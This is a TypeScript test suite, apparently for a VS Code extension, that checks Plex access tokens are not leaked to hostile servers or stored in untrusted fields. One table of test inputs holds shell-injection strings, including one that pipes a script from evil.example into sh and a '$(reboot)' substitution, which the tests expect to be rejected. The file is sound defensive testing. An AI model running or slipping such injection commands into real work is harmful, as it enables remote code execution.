import assert from 'node:assert/strict';
import { createServer, type Server as HttpServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { Secret } from '../../src/plex/secret.ts';
import { AddServer } from '../../src/servers/addServer.ts';
import { listId } from '../../src/servers/listedServers.ts';
import { type ListedServer, type Server, usedWith } from '../../src/servers/server.ts';
import { ServerClient } from '../../src/servers/serverClient.ts';
import { KnownSources } from '../../src/sources/knownSources.ts';
import { toSourceUri } from '../../src/sources/sourceDocument.ts';
import { TokenClipboard } from '../../src/tokens/tokenClipboard.ts';
import { TokenFates } from '../../src/tokens/tokenFate.ts';
import { TransientTokens } from '../../src/tokens/transientTokens.ts';
import { showError } from '../../src/workbench/notify.ts';
import { Problem } from '../../src/workbench/problem.ts';
import { inWords } from '../../src/workbench/words.ts';
import { closeEditors, openText } from '../host/editors.ts';
import { control, Fixture, plexErrorOf, simulator } from '../host/fixture.ts';
import { Messages } from '../host/messages.ts';
import { QuickInputUser } from '../host/quickInputUser.ts';

const { livingRoom, attic } = simulator.servers;
const { owner } = simulator.tokens;
const transient = 'transient-2f0c9e14-7d3b-4f21-8a55-0b1c2d3e4f50';

const source = { scheme: 'server', identifier: attic.machineIdentifier } as const;
const uri = toSourceUri({ machineIdentifier: livingRoom.machineIdentifier, source });

describe('The owner of a hostile server', () => {
  let fixture: Fixture;
  let server: Server;
  beforeEach(async () => {
    await control.reset();
    fixture = new Fixture();
    server = await fixture.addLivingRoom();
  });
  afterEach(() => fixture.dispose());
  const loadSource = async () => {
    const document = fixture.documents.find(uri) ?? assert.fail();
    await fixture.documents.load(document);
    return document.response ?? assert.fail();
  };

  describe('who wants a long-lived token in a file', () => {
    const answering = (token: string) =>
      control.addFault('livingRoom', { fault: { kind: 'token', token }, path: '/security/token' });

    it('does not insert the token that was sent, and the user reads why', async () => {
      await answering(owner);
      const editor = await openText('token=');
      const messages = new Messages();
      const clipboard = new TokenClipboard();
      const tokens = new TransientTokens({ ...fixture.services, clipboard });
      await tokens.insert({ machineIdentifier: server.machineIdentifier }).catch(error => showError(error));
      assert.equal(editor.document.getText(), 'token=');
      assert.match(messages.texts, /^Living Room returned a long-lived token instead of a transient one/);
      for (const owned of [clipboard, messages]) owned.dispose();
      await closeEditors();
    });

    it('does not insert a token that another window sent before', async () => {
      // The token's shape shows no kind, and this window has never read it.
      const earlier = 'an-older-token-of-thirty-chars';
      const tokens = [...server.tokens, { id: 'token-2', label: 'kids' }];
      await fixture.directory.update(server, { tokens });
      await fixture.secrets.store(`token/${server.machineIdentifier}/token-2`, earlier);
      await answering(`${earlier}-and-more`);
      assert.equal((await plexErrorOf(fixture.mint(server))).kind, 'notTransient');
    });

    it('does not insert the token of an account', async () => {
      const account = { id: 'mara', name: 'Mara' };
      const token = 'the-token-of-an-account-of-another-shape';
      await fixture.accounts.put(account, { token: new Secret(token), obtained: 'pasted', serverTokens: new Map() });
      await answering(token);
      assert.equal((await plexErrorOf(fixture.mint(server))).kind, 'notTransient');
    });
  });

  describe('who shares a server that claims to be yours', () => {
    const tokenHeaders: unknown[] = [];
    let evil: HttpServer;
    let address: string;
    const zoe = { id: 'zoe', name: 'Zoe' };
    const account = 'token-that-ines-gave-zoe';
    let status: number;
    const listedAt = (address: string): ListedServer => ({
      ...{
        machineIdentifier: livingRoom.machineIdentifier,
        name: 'Living Room',
        version: '',
        owned: false,
        owner: 'ines',
      },
      connections: [{ address, local: true, relay: false }],
    });
    beforeEach(async () => {
      tokenHeaders.length = 0;
      status = 200;
      evil = createServer(({ headers }, response) => {
        const token = headers['x-plex-token'];
        if (token !== undefined) response.statusCode = status;
        if (token !== undefined) tokenHeaders.push(token);
        const { machineIdentifier } = livingRoom;
        response.setHeader('Content-Type', 'application/json');
        response.end(JSON.stringify({ MediaContainer: { machineIdentifier, claimed: true, token: transient } }));
      });
      await new Promise<void>(resolve => evil.listen(0, '127.0.0.1', resolve));
      address = `http://127.0.0.1:${(evil.address() as AddressInfo).port}`;
      await fixture.list(zoe, [listedAt(address)], account);
      server = fixture.directory.find(livingRoom.machineIdentifier) ?? assert.fail();
      assert.equal(server.tokens.length, 2);
    });
    afterEach(() => {
      evil.close();
      evil.closeAllConnections();
    });

    it('does not get the token that was pasted for yours, which is only sent to the address of yours', async () => {
      await fixture.mint(server);
      assert.equal(fixture.access.addressOf(server), livingRoom.url);
      assert.deepEqual(tokenHeaders, []);
    });

    it('does not get the pasted token while yours is unreachable, nor after being used with its own token', async () => {
      const asZoe = usedWith(server, 'account/zoe') ?? assert.fail();
      await fixture.mint(asZoe);
      assert.deepEqual(tokenHeaders, [account]);
      await control.disconnect('livingRoom');
      const both = await Promise.allSettled([fixture.mint(asZoe), fixture.mint(server)]);
      assert.deepEqual(
        both.map(({ status }) => status),
        ['fulfilled', 'rejected'],
      );
      assert.deepEqual(tokenHeaders, [account, account]);
      assert.equal(fixture.access.addressOf(server), livingRoom.url);
    });

    it('does not get a transient token that yours created', async () => {
      const token = (await fixture.minting.mint(server)).reveal();
      const fates = new TokenFates(fixture.directory, fixture.access, fixture.issued);
      const { issued } = fixture;
      assert.equal((await fates.fateOf(token, issued.find(token) ?? assert.fail())).kind, 'alive');
      // The token that created it is removed, and only the attacker's listing says where the server is.
      await fixture.directory.remove(server);
      await fixture.directory.select(fixture.directory.find(livingRoom.machineIdentifier) ?? assert.fail());
      assert.equal((await fates.fateOf(token, issued.find(token) ?? assert.fail())).kind, 'unknown');
      assert.deepEqual(tokenHeaders, []);
    });

    describe('and then stops sharing it', () => {
      const theirs = 'token-of-the-one-it-is-yours';
      let access: ServerClient;
      beforeEach(() => {
        const accountServers = {
          read: () => fixture.list(zoe, [listedAt(livingRoom.url)], theirs),
          renew: async () => {},
        };
        access = new ServerClient({ ...fixture, accountServers });
      });
      afterEach(() => access.dispose());
      const mintAsZoe = async () => {
        const asZoe = usedWith(server, 'account/zoe') ?? assert.fail();
        await access.request(asZoe, mediaServer => mediaServer.getTransientToken({ type: 'delegation', scope: 'all' }));
      };

      it('does not get the token that is read again because it rejected its own', async () => {
        status = 401;
        await mintAsZoe().catch(() => undefined);
        assert.deepEqual(tokenHeaders, [account]);
        assert.ok((await control.journal()).some(({ headers }) => headers['x-plex-token'] === theirs));
      });

      describe('and another window reads the new list', () => {
        beforeEach(async () => {
          const other = await fixture.otherWindow();
          const serverTokens = new Map([[livingRoom.machineIdentifier, new Secret(theirs)]]);
          const list = listId([listedAt(livingRoom.url)]);
          await other.accounts.put(zoe, { token: new Secret('token-of-zoe'), obtained: 'pasted', serverTokens, list });
          other.dispose();
        });
        const onlyYoursGotIt = async () => {
          assert.deepEqual(tokenHeaders, []);
          assert.ok((await control.journal()).some(({ headers }) => headers['x-plex-token'] === theirs));
        };

        it('does not get the token from the new list', async () => {
          await mintAsZoe().catch(() => undefined);
          await onlyYoursGotIt();
        });

        it('does not get that token from a file', async () => {
          const asZoe = usedWith(server, 'account/zoe') ?? assert.fail();
          await access.request(asZoe, mediaServer => mediaServer.checkToken(), undefined, new Secret(theirs));
          await onlyYoursGotIt();
        });
      });
    });

    it('does not get a new token that is added for yours', async () => {
      await fixture.directory.select(server, 'account/zoe');
      const person = new QuickInputUser();
      const adding = new AddServer(fixture.directory, fixture.tokens, fixture.access);
      const done = adding.addToken(livingRoom.machineIdentifier);
      await person.isAsked(1);
      assert.ok(person.box.prompt?.includes(livingRoom.url), person.box.prompt);
      await person.cancels();
      await done;
      person.dispose();
    });
  });

  describe('who wants a token where others can read it', () => {
    it('does not have a token stored as the name of a server', async () => {
      await control.addFault('livingRoom', { fault: { kind: 'names', friendlyName: `My ${owner}` } });
      await fixture.directory.remove(server);
      const person = new QuickInputUser();
      const messages = new Messages();
      const done = new AddServer(fixture.directory, fixture.tokens, fixture.access).addServer();
      for (const [index, answer] of [livingRoom.url, owner].entries()) {
        await person.isAsked(index + 1);
        await person.answers(answer);
      }
      await done;
      assert.equal(fixture.directory.servers[0]?.name, '127.0.0.1');
      assert.ok(!((await fixture.stored()) + messages.texts).includes(owner));
      for (const owned of [person, messages]) owned.dispose();
    });

    it('does not have a token shown as the name of a provider, or in a source document', async () => {
      const names = { kind: 'names', providerTitle: owner, deviceName: `(${owner})` } as const;
      await control.addFault('livingRoom', { fault: names });
      const providers = await new KnownSources(fixture.directory, fixture.access).providers(server);
      assert.ok(providers.length > 0);
      assert.ok(!JSON.stringify(providers).includes(owner));
      const { text, tokens } = await loadSource();
      assert.equal(JSON.parse(text).MediaContainer.Device.name, '');
      assert.equal(tokens[0]?.deviceName, '');
      assert.ok(!text.includes(owner));
    });

    it('does not have a token shown as the host of a redirect', async () => {
      const location = `https://${owner}.example/`;
      await control.addFault('livingRoom', {
        fault: { kind: 'redirect', status: 307, location },
        path: '/security/token',
      });
      const error = await plexErrorOf(fixture.mint(server));
      assert.equal(error.kind, 'redirected');
      assert.ok(!(inWords(error)?.message ?? '').toLowerCase().includes(owner.toLowerCase()));
    });

    it('does not have a token stored as the version of a server', async () => {
      await control.addFault('livingRoom', { fault: { kind: 'names', version: owner } });
      await fixture.mint(server);
      assert.ok(!(await fixture.stored()).includes(owner));
    });

    it('does not have a token stored in the list of an account', async () => {
      await control.addFault('plexTv', { fault: { kind: 'names', deviceName: owner, myPlexUsername: owner } });
      const account = { id: 'mara', name: 'Mara' };
      await fixture.accounts.put(account, { token: new Secret(owner), obtained: 'pasted', serverTokens: new Map() });
      await fixture.accountServers.read(account);
      const { servers } = fixture.directory;
      assert.ok(servers.length > 1);
      assert.ok(!JSON.stringify(servers).includes(owner));
    });

    it('does not have a token that was pasted before VS Code was started stored in the list of an account', async () => {
      const earlier = 'a-token-that-was-pasted-last-week';
      await fixture.directory.update(server, { tokens: [...server.tokens, { id: 'token-2', label: 'kids' }] });
      await fixture.secrets.store(`token/${server.machineIdentifier}/token-2`, earlier);
      await control.addFault('plexTv', { fault: { kind: 'names', deviceName: earlier, myPlexUsername: earlier } });
      const account = { id: 'mara', name: 'Mara' };
      await fixture.accounts.put(account, { token: new Secret(owner), obtained: 'pasted', serverTokens: new Map() });
      await fixture.accountServers.read(account);
      assert.ok(!JSON.stringify(fixture.directory.servers).includes(earlier));
    });
  });

  describe('who wants a command in a shell', () => {
    for (const token of [
      "x'; curl https://evil.example | sh #",
      '$(reboot)',
      'a b c d e f g h',
      'line\nbreak',
      'short',
    ]) {
      it(`does not have ${JSON.stringify(token)} copied or revealed as the token of a source`, async () => {
        await control.addFault('livingRoom', { fault: { kind: 'token', token }, path: '/security/resources' });
        const { text, tokens } = await loadSource();
        assert.deepEqual(tokens, []);
        assert.throws(() => fixture.sourceCommands.reveal(uri), Problem);
        await assert.rejects(fixture.sourceCommands.copy(uri, 0), Problem);
        assert.equal(JSON.parse(text).MediaContainer.Device.accessToken, 'not a token');
      });
    }
  });
});
